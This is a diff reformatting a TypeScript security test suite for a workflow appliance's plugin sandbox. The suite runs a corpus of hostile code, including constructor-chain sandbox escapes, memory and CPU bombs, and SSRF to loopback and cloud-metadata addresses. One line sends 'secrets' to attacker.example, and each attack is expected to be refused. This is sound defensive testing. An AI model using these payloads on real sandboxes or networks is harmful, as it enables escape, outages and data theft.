@@ -35,16 +35,30 @@ defineAction('logflood', () => {
   return calls;
 });
 `;
-const LOAD_SPIN_PLUGIN = 'for (;;) {}\ndefineAction(\'never\', () => 1);\n';
+const LOAD_SPIN_PLUGIN = "for (;;) {}\ndefineAction('never', () => 1);\n";
 
 function pluginPackage(name: string, actions: string[], script: string, hosts: string[] = []): string {
   const manifest = {
-    name, version: '1.0.0', publisher: 'Mallory', minApplianceVersion: '0.1.0', entry: 'plugin.js',
-    actions: actions.map((action) => ({ name: action, description: `hostile ${action}`, inputSchema: { type: 'object' }, outputSchema: {} })),
+    name,
+    version: '1.0.0',
+    publisher: 'Mallory',
+    minApplianceVersion: '0.1.0',
+    entry: 'plugin.js',
+    actions: actions.map((action) => ({
+      name: action,
+      description: `hostile ${action}`,
+      inputSchema: { type: 'object' },
+      outputSchema: {},
+    })),
     permissions: { hosts, credentialTypes: [], rawSecretAccess: false },
     resources: { memoryMb: 16, timeoutMs: 5000, cpuMs: 150 },
   };
-  return packFiles(new Map([['manifest.json', Buffer.from(JSON.stringify(manifest))], ['plugin.js', Buffer.from(script)]])).toString('base64');
+  return packFiles(
+    new Map([
+      ['manifest.json', Buffer.from(JSON.stringify(manifest))],
+      ['plugin.js', Buffer.from(script)],
+    ]),
+  ).toString('base64');
 }
 
 async function listen(server: http.Server, host: string): Promise<string> {
@@ -71,15 +85,27 @@ test.before(async () => {
   // Every internal target is in the allow list, so what refuses it is the address check, not the
   // list; only 127.0.0.2 (the redirecting server) is a permitted private address.
   const hosts = ['*', redirectorHost, internalHost, '127.0.0.1:5432'];
-  const policy = await app.gql(ADMIN_TOKEN, 'mutation($h: [String!], $p: [String!]) { setPluginPolicy(input: { name: "http", allowedHosts: $h, allowedPrivate: $p }) { allowedHosts allowedPrivate } }', { h: hosts, p: ['127.0.0.2'] });
+  const policy = await app.gql(
+    ADMIN_TOKEN,
+    'mutation($h: [String!], $p: [String!]) { setPluginPolicy(input: { name: "http", allowedHosts: $h, allowedPrivate: $p }) { allowedHosts allowedPrivate } }',
+    { h: hosts, p: ['127.0.0.2'] },
+  );
   if (!policy.data) throw new Error(JSON.stringify(policy.errors));
 
-  for (const bundle of [pluginPackage('hostile', ['spin', 'fetch', 'logflood'], HOSTILE_PLUGIN, [redirectorHost, internalHost]), pluginPackage('hostileload', ['never'], LOAD_SPIN_PLUGIN)]) {
-    const installed = await app.gql(ADMIN_TOKEN, 'mutation($b: String!) { installPlugin(input: { bundle: $b }) { name trust } }', { b: bundle });
+  for (const bundle of [
+    pluginPackage('hostile', ['spin', 'fetch', 'logflood'], HOSTILE_PLUGIN, [redirectorHost, internalHost]),
+    pluginPackage('hostileload', ['never'], LOAD_SPIN_PLUGIN),
+  ]) {
+    const installed = await app.gql(ADMIN_TOKEN, 'mutation($b: String!) { installPlugin(input: { bundle: $b }) { name trust } }', {
+      b: bundle,
+    });
     if (!installed.data) throw new Error(JSON.stringify(installed.errors));
   }
   // The hostile plugin may follow redirects (up to 10 requests): only the address check stands between it and 127.0.0.1.
-  const hostilePolicy = await app.gql(ADMIN_TOKEN, 'mutation { setPluginPolicy(input: { name: "hostile", allowedPrivate: ["127.0.0.2"] }) { allowedPrivate } }');
+  const hostilePolicy = await app.gql(
+    ADMIN_TOKEN,
+    'mutation { setPluginPolicy(input: { name: "hostile", allowedPrivate: ["127.0.0.2"] }) { allowedPrivate } }',
+  );
   if (!hostilePolicy.data) throw new Error(JSON.stringify(hostilePolicy.errors));
 });
 
@@ -91,9 +117,15 @@ test.after.always(async () => {
 
 let counter = 0;
 async function start(target: TestAppliance, token: string, steps: unknown[], input: unknown = {}): Promise<string> {
-  const created = await target.gql(token, 'mutation($n: String!, $d: JSON!) { createWorkflow(input: { name: $n, definition: $d }) { id } }', { n: `hostile-${++counter}`, d: { steps } });
+  const created = await target.gql(
+    token,
+    'mutation($n: String!, $d: JSON!) { createWorkflow(input: { name: $n, definition: $d }) { id } }',
+    { n: `hostile-${++counter}`, d: { steps } },
+  );
   if (!created.data) throw new Error(JSON.stringify(created.errors));
-  const started = await target.gql(token, 'mutation($i: StartRunInput!) { startRun(input: $i) { id } }', { i: { workflowId: created.data.createWorkflow.id, input } });
+  const started = await target.gql(token, 'mutation($i: StartRunInput!) { startRun(input: $i) { id } }', {
+    i: { workflowId: created.data.createWorkflow.id, input },
+  });
   if (!started.data) throw new Error(JSON.stringify(started.errors));
   return started.data.startRun.id;
 }
@@ -139,10 +171,19 @@ function code(name: string, source: string, expect: Expectation, timeoutMs = 800
 }
 
 function request(name: string, url: string, message: string | RegExp): Attack {
-  return { name, step: { uses: 'http/request@1', timeoutMs: 5000, retry: { maxAttempts: 1 }, with: { url } }, expect: { fails: 'EGRESS_DENIED', message } };
+  return {
+    name,
+    step: { uses: 'http/request@1', timeoutMs: 5000, retry: { maxAttempts: 1 }, with: { url } },
+    expect: { fails: 'EGRESS_DENIED', message },
+  };
 }
 
-const NEIGHBOUR_STEP = { id: 'work', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: 'return { sum: input.items.reduce((a, b) => a + b, 0), who: "innocent" };' } };
+const NEIGHBOUR_STEP = {
+  id: 'work',
+  uses: 'core/code@1',
+  retry: { maxAttempts: 1 },
+  with: { code: 'return { sum: input.items.reduce((a, b) => a + b, 0), who: "innocent" };' },
+};
 const NEIGHBOUR_INPUT = { items: [1, 2, 3, 4] };
 const NEIGHBOUR_OUTPUT = { sum: 10, who: 'innocent' };
 
@@ -183,24 +224,76 @@ test.serial('escapes: constructor chains, host globals and runtime internals rea
   const api = ['defineAction', 'PluginError', 'log', 'http'];
   const expectedGlobals = [...builtins.filter((n) => !removed.includes(n)), ...api].sort();
   const forbidden = [
-    'process', 'require', 'module', 'exports', '__dirname', '__filename', 'Buffer', 'global', 'setTimeout', 'setInterval', 'setImmediate',
-    'queueMicrotask', 'structuredClone', 'fetch', 'WebAssembly', 'SharedArrayBuffer', 'Atomics', 'console', 'gc', '$0', '$1', '$2', 'hostLog', 'hostHttp', 'ivm',
+    'process',
+    'require',
+    'module',
+    'exports',
+    '__dirname',
+    '__filename',
+    'Buffer',
+    'global',
+    'setTimeout',
+    'setInterval',
+    'setImmediate',
+    'queueMicrotask',
+    'structuredClone',
+    'fetch',
+    'WebAssembly',
+    'SharedArrayBuffer',
+    'Atomics',
+    'console',
+    'gc',
+    '$0',
+    '$1',
+    '$2',
+    'hostLog',
+    'hostHttp',
+    'ivm',
   ];
   const results = await corpus(t, [
-    code('constructor chain to process', "return this.constructor.constructor('return process')()", { fails: 'SANDBOX_ERROR', message: 'ReferenceError: process is not defined' }),
-    code('async function constructor', "return await (async () => {}).constructor('return process')()", { fails: 'SANDBOX_ERROR', message: 'ReferenceError: process is not defined' }),
-    code('generator function constructor', "return (function* () {}).constructor('yield require')().next().value", { fails: 'SANDBOX_ERROR', message: 'ReferenceError: require is not defined' }),
-    code('API function constructor chain', "return defineAction.constructor('return typeof process + typeof require + typeof module')()", { output: 'undefinedundefinedundefined' }),
-    code('Function("return this") global probe',
+    code('constructor chain to process', "return this.constructor.constructor('return process')()", {
+      fails: 'SANDBOX_ERROR',
+      message: 'ReferenceError: process is not defined',
+    }),
+    code('async function constructor', "return await (async () => {}).constructor('return process')()", {
+      fails: 'SANDBOX_ERROR',
+      message: 'ReferenceError: process is not defined',
+    }),
+    code('generator function constructor', "return (function* () {}).constructor('yield require')().next().value", {
+      fails: 'SANDBOX_ERROR',
+      message: 'ReferenceError: require is not defined',
+    }),
+    code('API function constructor chain', "return defineAction.constructor('return typeof process + typeof require + typeof module')()", {
+      output: 'undefinedundefinedundefined',
+    }),
+    code(
+      'Function("return this") global probe',
       "const g = Function('return this')(); return { same: g === globalThis, found: ['process', 'require', 'module', 'Buffer', 'global', 'fetch', 'setTimeout'].filter((n) => n in g) };",
-      { output: { same: true, found: [] } }),
+      { output: { same: true, found: [] } },
+    ),
     code('global enumeration', 'return Object.getOwnPropertyNames(globalThis).sort();', { output: expectedGlobals }),
-    code('shared memory and WebAssembly are gone', 'return [typeof SharedArrayBuffer, typeof Atomics, typeof WebAssembly, typeof console];', { output: ['undefined', 'undefined', 'undefined', 'undefined'] }),
-    code('Atomics.wait blocking', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return "blocked";', { fails: 'SANDBOX_ERROR', message: 'ReferenceError: Atomics is not defined' }),
-    code('SharedArrayBuffer', 'return new SharedArrayBuffer(1 << 20).byteLength;', { fails: 'SANDBOX_ERROR', message: 'ReferenceError: SharedArrayBuffer is not defined' }),
-    code('WebAssembly compile', 'return await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));', { fails: 'SANDBOX_ERROR', message: 'ReferenceError: WebAssembly is not defined' }),
-    code('V8 natives syntax', "try { eval('%DebugPrint(globalThis)'); return 'natives'; } catch (e) { return e.name; }", { output: 'SyntaxError' }),
-    code('CallSite getThis/getFunction walk',
+    code(
+      'shared memory and WebAssembly are gone',
+      'return [typeof SharedArrayBuffer, typeof Atomics, typeof WebAssembly, typeof console];',
+      { output: ['undefined', 'undefined', 'undefined', 'undefined'] },
+    ),
+    code('Atomics.wait blocking', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return "blocked";', {
+      fails: 'SANDBOX_ERROR',
+      message: 'ReferenceError: Atomics is not defined',
+    }),
+    code('SharedArrayBuffer', 'return new SharedArrayBuffer(1 << 20).byteLength;', {
+      fails: 'SANDBOX_ERROR',
+      message: 'ReferenceError: SharedArrayBuffer is not defined',
+    }),
+    code('WebAssembly compile', 'return await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));', {
+      fails: 'SANDBOX_ERROR',
+      message: 'ReferenceError: WebAssembly is not defined',
+    }),
+    code('V8 natives syntax', "try { eval('%DebugPrint(globalThis)'); return 'natives'; } catch (e) { return e.name; }", {
+      output: 'SyntaxError',
+    }),
+    code(
+      'CallSite getThis/getFunction walk',
       `Error.prepareStackTrace = (e, frames) => frames.map((f) => {
         const out = [];
         for (const v of [f.getThis(), f.getFunction()]) {
@@ -211,8 +304,10 @@ test.serial('escapes: constructor chains, host globals and runtime internals rea
       });
       const frames = new Error('probe').stack;
       return { frames: frames.length > 0, leaked: frames.flat() };`,
-      { output: { frames: true, leaked: [] } }),
-    code('tampering with the plugin API globals',
+      { output: { frames: true, leaked: [] } },
+    ),
+    code(
+      'tampering with the plugin API globals',
       `'use strict';
       const tries = {
         assign: () => { PluginError = function () {}; },
@@ -225,22 +320,60 @@ test.serial('escapes: constructor chains, host globals and runtime internals rea
       const out = {};
       for (const k of Object.keys(tries)) { try { tries[k](); out[k] = 'allowed'; } catch (e) { out[k] = e.name; } }
       throw new PluginError('TAMPER_HARMLESS', JSON.stringify(out));`,
-      { fails: 'TAMPER_HARMLESS', message: JSON.stringify({ assign: 'TypeError', remove: 'TypeError', redefine: 'TypeError', logMethod: 'TypeError', errorPrototype: 'TypeError', httpMethod: 'TypeError' }) }),
-    code('posing as the runtime with a SANDBOX_ code', "throw new PluginError('SANDBOX_CRASHED', 'pretending to be the runtime');", { fails: 'SANDBOX_ERROR', message: 'PluginError with an invalid code: pretending to be the runtime' }),
-    code('forged PluginError object', "throw Object.create(PluginError.prototype, { code: { value: 'SANDBOX_TIMEOUT' }, message: { value: 'forged' } });", { fails: 'SANDBOX_ERROR', message: 'PluginError with an invalid code: forged' }),
+      {
+        fails: 'TAMPER_HARMLESS',
+        message: JSON.stringify({
+          assign: 'TypeError',
+          remove: 'TypeError',
+          redefine: 'TypeError',
+          logMethod: 'TypeError',
+          errorPrototype: 'TypeError',
+          httpMethod: 'TypeError',
+        }),
+      },
+    ),
+    code('posing as the runtime with a SANDBOX_ code', "throw new PluginError('SANDBOX_CRASHED', 'pretending to be the runtime');", {
+      fails: 'SANDBOX_ERROR',
+      message: 'PluginError with an invalid code: pretending to be the runtime',
+    }),
+    code(
+      'forged PluginError object',
+      "throw Object.create(PluginError.prototype, { code: { value: 'SANDBOX_TIMEOUT' }, message: { value: 'forged' } });",
+      { fails: 'SANDBOX_ERROR', message: 'PluginError with an invalid code: forged' },
+    ),
     code('throw null', 'throw null;', { fails: 'SANDBOX_ERROR', message: 'null' }),
-    code('throw a trapping Proxy', "throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } });", { fails: 'SANDBOX_ERROR', message: 'the action threw a value that cannot be described' }),
+    code(
+      'throw a trapping Proxy',
+      "throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } });",
+      { fails: 'SANDBOX_ERROR', message: 'the action threw a value that cannot be described' },
+    ),
     code('return a Symbol', "return Symbol('s');", { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
     code('return a function', 'return { f() { return process; } };', { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
     code('return a BigInt', 'return { n: 10n };', { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
-    code('return a trapping Proxy', "return new Proxy({}, { ownKeys() { throw new Error('trap'); } });", { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
+    code('return a trapping Proxy', "return new Proxy({}, { ownKeys() { throw new Error('trap'); } });", {
+      fails: 'SANDBOX_ERROR',
+      message: NOT_JSON,
+    }),
     code('return a cyclic value', 'const a = { b: {} }; a.b.a = a; return a;', { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
-    code('return 100 MB of JSON', "const s = 'x'.repeat(1 << 20); return new Array(100).fill(s);", { fails: 'OUTPUT_TOO_LARGE', message: "the action's result is larger than 1048576 bytes" }),
-    code('deep recursion', 'function f(n) { return f(n + 1) + 1; } return f(0);', { fails: 'SANDBOX_ERROR', message: 'RangeError: Maximum call stack size exceeded' }),
-    code('eval of huge generated code', "return eval('[' + '1,'.repeat(1e7) + ']').length;", { fails: 'SANDBOX_ERROR', message: 'EvalError: Code generation from strings disallowed for this context' }),
+    code('return 100 MB of JSON', "const s = 'x'.repeat(1 << 20); return new Array(100).fill(s);", {
+      fails: 'OUTPUT_TOO_LARGE',
+      message: "the action's result is larger than 1048576 bytes",
+    }),
+    code('deep recursion', 'function f(n) { return f(n + 1) + 1; } return f(0);', {
+      fails: 'SANDBOX_ERROR',
+      message: 'RangeError: Maximum call stack size exceeded',
+    }),
+    code('eval of huge generated code', "return eval('[' + '1,'.repeat(1e7) + ']').length;", {
+      fails: 'SANDBOX_ERROR',
+      message: 'EvalError: Code generation from strings disallowed for this context',
+    }),
   ]);
   const globals = step(results.get('global enumeration'), 'attack').output as string[];
-  t.deepEqual(forbidden.filter((name) => globals.includes(name)), [], 'no host object or removed global is visible');
+  t.deepEqual(
+    forbidden.filter((name) => globals.includes(name)),
+    [],
+    'no host object or removed global is visible',
+  );
   t.true(api.every((name) => globals.includes(name)));
 });
 
@@ -257,10 +390,19 @@ test.serial('exhaustion: loops, promises, memory bombs and ReDoS end with their 
   await corpus(t, [
     code('array push bomb', 'const a = []; for (;;) a.push(new Array(1e5).fill(a.length));', memory),
     code('string doubling, flattened', "let s = 'xy'; const keep = []; for (;;) { s = s + s; s.indexOf('z'); keep.push(s); }", memory),
-    code('string doubling, rope', "let s = 'x'; for (;;) s += s;", { fails: 'SANDBOX_ERROR', message: 'RangeError: Invalid string length' }),
+    code('string doubling, rope', "let s = 'x'; for (;;) s += s;", {
+      fails: 'SANDBOX_ERROR',
+      message: 'RangeError: Invalid string length',
+    }),
     // ArrayBuffers live outside the heap; isolated-vm counts them against the same limit and refuses the allocation.
-    code('ArrayBuffer allocation loop', 'const keep = []; for (;;) keep.push(new ArrayBuffer(16 << 20));', { fails: 'SANDBOX_ERROR', message: 'RangeError: Array buffer allocation failed' }),
-    code('typed array allocation loop', 'const keep = []; for (;;) keep.push(new Float64Array(1 << 21));', { fails: 'SANDBOX_ERROR', message: 'RangeError: Array buffer allocation failed' }),
+    code('ArrayBuffer allocation loop', 'const keep = []; for (;;) keep.push(new ArrayBuffer(16 << 20));', {
+      fails: 'SANDBOX_ERROR',
+      message: 'RangeError: Array buffer allocation failed',
+    }),
+    code('typed array allocation loop', 'const keep = []; for (;;) keep.push(new Float64Array(1 << 21));', {
+      fails: 'SANDBOX_ERROR',
+      message: 'RangeError: Array buffer allocation failed',
+    }),
     {
       name: 'CPU budget of a plugin',
       step: { uses: 'hostile/spin@1', timeoutMs: 4000, retry: { maxAttempts: 1 }, with: {} },
@@ -278,14 +420,38 @@ test.serial('network: SSRF to internal addresses, redirects inward, exfiltration
   const before = { redirector: redirectorHits.length, internal: internalHits.length };
   await corpus(t, [
     request('PostgreSQL on loopback', 'http://127.0.0.1:5432/', `127.0.0.1:5432 is in the ${LOOPBACK}`),
-    request('cloud metadata', 'http://169.254.169.254/latest/meta-data/', '169.254.169.254:80 is in the link-local (cloud metadata) 169.254.0.0/16 range; refused because allowedPrivate does not permit it'),
-    request('IPv6 loopback', 'http://[::1]/', '[::1]:80 is in the loopback ::1/128 range; refused because allowedPrivate does not permit it'),
+    request(
+      'cloud metadata',
+      'http://169.254.169.254/latest/meta-data/',
+      '169.254.169.254:80 is in the link-local (cloud metadata) 169.254.0.0/16 range; refused because allowedPrivate does not permit it',
+    ),
+    request(
+      'IPv6 loopback',
+      'http://[::1]/',
+      '[::1]:80 is in the loopback ::1/128 range; refused because allowedPrivate does not permit it',
+    ),
     request('hex shorthand loopback', 'http://0x7f.1/', `127.0.0.1:80 is in the ${LOOPBACK}`),
     request('decimal loopback', 'http://2130706433/', `127.0.0.1:80 is in the ${LOOPBACK}`),
-    request('IPv4-mapped IPv6 loopback', 'http://[::ffff:127.0.0.1]/', /^\[::ffff:7f00:1\]:80 is in the .*IPv4-mapped.* range; refused because allowedPrivate does not permit it$/),
-    request('unspecified address', 'http://0.0.0.0/', '0.0.0.0:80 is in the unspecified ("this network") 0.0.0.0/8 range; refused because allowedPrivate does not permit it'),
-    request('localhost by name', 'http://localhost/', /^localhost resolves to (127\.0\.0\.1|::1), which is in the loopback (127\.0\.0\.0\/8|::1\/128) range; refused because allowedPrivate does not permit it$/),
-    request('RFC 1918 address', 'http://10.0.0.1/', '10.0.0.1:80 is in the private 10.0.0.0/8 range; refused because allowedPrivate does not permit it'),
+    request(
+      'IPv4-mapped IPv6 loopback',
+      'http://[::ffff:127.0.0.1]/',
+      /^\[::ffff:7f00:1\]:80 is in the .*IPv4-mapped.* range; refused because allowedPrivate does not permit it$/,
+    ),
+    request(
+      'unspecified address',
+      'http://0.0.0.0/',
+      '0.0.0.0:80 is in the unspecified ("this network") 0.0.0.0/8 range; refused because allowedPrivate does not permit it',
+    ),
+    request(
+      'localhost by name',
+      'http://localhost/',
+      /^localhost resolves to (127\.0\.0\.1|::1), which is in the loopback (127\.0\.0\.0\/8|::1\/128) range; refused because allowedPrivate does not permit it$/,
+    ),
+    request(
+      'RFC 1918 address',
+      'http://10.0.0.1/',
+      '10.0.0.1:80 is in the private 10.0.0.0/8 range; refused because allowedPrivate does not permit it',
+    ),
     // Every hop is re-checked: the redirect target's address is refused.
     {
       name: 'http/request redirected from an allowed server to an internal one',
@@ -297,10 +463,15 @@ test.serial('network: SSRF to internal addresses, redirects inward, exfiltration
       step: { uses: 'hostile/fetch@1', timeoutMs: 5000, retry: { maxAttempts: 1 }, with: { url: `http://${redirectorHost}/redirect` } },
       expect: { fails: 'EGRESS_DENIED', message: `${internalHost} is in the ${LOOPBACK}` },
     },
-    code('exfiltration from core/code', "return await http.request({ method: 'POST', url: 'https://attacker.example/steal', body: 'secrets' });",
-      { fails: 'EGRESS_DENIED', message: "attacker.example:443 is not in the plugin's allowed hosts" }),
-    code('forged credential handle', "return await http.request({ url: 'https://api.example.com/', credential: 'forged' });",
-      { fails: 'CREDENTIAL_DENIED', message: 'unknown credential handle' }),
+    code(
+      'exfiltration from core/code',
+      "return await http.request({ method: 'POST', url: 'https://attacker.example/steal', body: 'secrets' });",
+      { fails: 'EGRESS_DENIED', message: "attacker.example:443 is not in the plugin's allowed hosts" },
+    ),
+    code('forged credential handle', "return await http.request({ url: 'https://api.example.com/', credential: 'forged' });", {
+      fails: 'CREDENTIAL_DENIED',
+      message: 'unknown credential handle',
+    }),
   ]);
   t.deepEqual(redirectorHits.slice(before.redirector), ['/redirect', '/redirect'], 'the allowed server was reached by both');
   t.deepEqual(internalHits.slice(before.internal), [], 'the internal server was never reached');
@@ -320,8 +491,12 @@ test.serial('prototype pollution stays in its own run: not in the next step, the
   t.deepEqual(step(polluter, 'after').output, clean, 'the next step of the same run is clean');
   // Several runs of each tenant, so that every sandbox thread's isolate is likely visited.
   const checks = await Promise.all([
-    ...Array.from({ length: 4 }, () => run(attacker, [{ id: 'check', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: check } }])),
-    ...Array.from({ length: 4 }, () => run(neighbour, [{ id: 'check', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: check } }])),
+    ...Array.from({ length: 4 }, () =>
+      run(attacker, [{ id: 'check', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: check } }]),
+    ),
+    ...Array.from({ length: 4 }, () =>
+      run(neighbour, [{ id: 'check', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: check } }]),
+    ),
   ]);
   for (const r of checks) {
     t.is(r.status, 'SUCCEEDED');
@@ -329,28 +504,37 @@ test.serial('prototype pollution stays in its own run: not in the next step, the
   }
 });
 
-test.serial('logs: 10,000 lines are capped at 100 plus one warning, a huge line is cut, a hostile message is not evaluated by the host', async (t) => {
-  const results = await corpus(t, [
-    { name: 'log flood', step: { uses: 'hostile/logflood@1', timeoutMs: 4000, retry: { maxAttempts: 1 }, with: {} }, expect: { output: 10000 } },
-    code('huge log line and fields', "log.info('x'.repeat(1e7), { big: 'y'.repeat(1e6) }); return 'logged';", { output: 'logged' }),
-    code('log message with a throwing toString', "log.warn({ toString() { throw new Error('gotcha'); } }); return 'logged';", { output: 'logged' }),
-  ]);
-  const linesOf = (name: string) => {
-    const runId = results.get(name).id;
-    return app.logs.map((l) => JSON.parse(l)).filter((l) => l.runId === runId && l.plugin === true);
-  };
-  const flood = linesOf('log flood');
-  t.is(flood.length, 101, 'at most 100 lines and the warning reach the appliance log');
-  t.is(flood[99].msg, 'flood 99');
-  t.like(flood[100], { msg: 'log limit of 100 lines reached; further lines are dropped' });
-  const huge = linesOf('huge log line and fields');
-  t.is(huge.length, 1);
-  t.is(huge[0].msg, 'x'.repeat(2000));
-  t.deepEqual(huge[0].fields, { fieldsDropped: true });
-  const hostileMessage = linesOf('log message with a throwing toString');
-  t.is(hostileMessage.length, 1);
-  t.is(hostileMessage[0].msg, '[unprintable]');
-});
+test.serial(
+  'logs: 10,000 lines are capped at 100 plus one warning, a huge line is cut, a hostile message is not evaluated by the host',
+  async (t) => {
+    const results = await corpus(t, [
+      {
+        name: 'log flood',
+        step: { uses: 'hostile/logflood@1', timeoutMs: 4000, retry: { maxAttempts: 1 }, with: {} },
+        expect: { output: 10000 },
+      },
+      code('huge log line and fields', "log.info('x'.repeat(1e7), { big: 'y'.repeat(1e6) }); return 'logged';", { output: 'logged' }),
+      code('log message with a throwing toString', "log.warn({ toString() { throw new Error('gotcha'); } }); return 'logged';", {
+        output: 'logged',
+      }),
+    ]);
+    const linesOf = (name: string) => {
+      const runId = results.get(name).id;
+      return app.logs.map((l) => JSON.parse(l)).filter((l) => l.runId === runId && l.plugin === true);
+    };
+    const flood = linesOf('log flood');
+    t.is(flood.length, 101, 'at most 100 lines and the warning reach the appliance log');
+    t.is(flood[99].msg, 'flood 99');
+    t.like(flood[100], { msg: 'log limit of 100 lines reached; further lines are dropped' });
+    const huge = linesOf('huge log line and fields');
+    t.is(huge.length, 1);
+    t.is(huge[0].msg, 'x'.repeat(2000));
+    t.deepEqual(huge[0].fields, { fieldsDropped: true });
+    const hostileMessage = linesOf('log message with a throwing toString');
+    t.is(hostileMessage.length, 1);
+    t.is(hostileMessage[0].msg, '[unprintable]');
+  },
+);
 
 test.serial('after the corpus the appliance is healthy: /ready is 200, the sandbox never crashed, a normal run succeeds', async (t) => {
   const ready = await fetch(`${app.url}/ready`);
@@ -385,7 +569,12 @@ test.serial('leftover work: a continuation of a pending http call runs inside it
     const mallory = (await single.tenant('mallory', ['ADMIN'])).tokens['ADMIN']!;
     const innocent = (await single.tenant('innocent', ['ADMIN'])).tokens['ADMIN']!;
     const source = "http.request({ url: 'http://example.invalid/' }).catch(() => { for (;;) {} }); return input.n;";
-    const hostile = await run(mallory, [{ id: 'attack', uses: 'core/code@1', timeoutMs: 1000, retry: { maxAttempts: 1 }, with: { code: source } }], { n: 1 }, single);
+    const hostile = await run(
+      mallory,
+      [{ id: 'attack', uses: 'core/code@1', timeoutMs: 1000, retry: { maxAttempts: 1 }, with: { code: source } }],
+      { n: 1 },
+      single,
+    );
     // The invocation ends only when its requests have settled and their reactions ran, so the
     // loop runs inside it, under its deadline.
     t.is(hostile.status, 'FAILED');
@@ -398,7 +587,12 @@ test.serial('leftover work: a continuation of a pending http call runs inside it
     // A leftover loop would use about 2 s of CPU here; the margin absorbs unrelated bursts.
     t.true(used < 1, 'no leftover loop keeps a core busy');
     // Same tenant, same script: the invocation that would reuse the isolate.
-    const again = await run(mallory, [{ id: 'attack', uses: 'core/code@1', timeoutMs: 2000, retry: { maxAttempts: 1 }, with: { code: 'return input.n;' } }], { n: 2 }, single);
+    const again = await run(
+      mallory,
+      [{ id: 'attack', uses: 'core/code@1', timeoutMs: 2000, retry: { maxAttempts: 1 }, with: { code: 'return input.n;' } }],
+      { n: 2 },
+      single,
+    );
     t.is(step(again, 'attack').output, 2);
     const neighbour = await run(innocent, [{ ...NEIGHBOUR_STEP, timeoutMs: 2000 }], NEIGHBOUR_INPUT, single);
     t.deepEqual(step(neighbour, 'work').output, NEIGHBOUR_OUTPUT);
@@ -409,6 +603,13 @@ test.serial('leftover work: a continuation of a pending http call runs inside it
 });
 
 test.serial('leftover work: FinalizationRegistry and WeakRef do not exist, so no GC callback can run after an invocation', async (t) => {
-  const r = await run(attacker, [{ id: 'probe', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: 'return [typeof FinalizationRegistry, typeof WeakRef];' } }]);
+  const r = await run(attacker, [
+    {
+      id: 'probe',
+      uses: 'core/code@1',
+      retry: { maxAttempts: 1 },
+      with: { code: 'return [typeof FinalizationRegistry, typeof WeakRef];' },
+    },
+  ]);
   t.deepEqual(step(r, 'probe').output, ['undefined', 'undefined']);
 });
